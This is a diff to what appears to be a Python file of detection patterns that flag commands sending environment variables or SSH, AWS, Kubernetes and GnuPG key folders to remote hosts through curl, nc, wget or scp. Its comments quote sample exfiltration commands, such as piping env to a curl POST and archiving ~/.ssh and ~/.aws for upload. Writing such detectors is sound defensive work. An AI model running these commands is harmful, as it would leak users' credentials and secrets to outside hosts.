@@ -73,6 +73,14 @@ SPECS: tuple[_Spec, ...] = (
               _p(("cat", "type", "get-content"), r"\s+[^\n|]{0,40}?(?:\.aws/credentials|"
                  r"\.ssh/id_\w+|/etc/passwd|/etc/shadow|\.env|\.netrc|\.git-credentials|"
                  r"\.kube/config)[^\n]{0,80}?\|\s*(?:base64\s*\|\s*)?(?:curl|nc|ncat|wget)\b"),
+              # (round 10) the environment, or the key folders, sent to a host: "env | curl -s
+              # -X POST --data-binary @- https://...", "tar czf /tmp/.c.tgz ~/.ssh ~/.aws; curl
+              # -F f=@/tmp/.c.tgz https://..."
+              _p(("env", "printenv"), r"\s*\|\s*(?:base64\s*\|\s*)?(?:curl|nc|ncat|wget)\b"),
+              _p((r"~/\.ssh", r"~/\.aws", r"~/\.kube", r"~/\.gnupg", r"\$home/\.ssh",
+                  r"\$home/\.aws"),
+                 r"\b[^\n]{0,120}?\b(?:curl|nc|ncat|wget|scp)\b[^\n]{0,80}?(?:https?://|@)",
+                 word=False),
               # fetched code executed
               # (round 9) through a module's alias too: "import urllib.request as u;
               # exec(u.urlopen(...).read())"
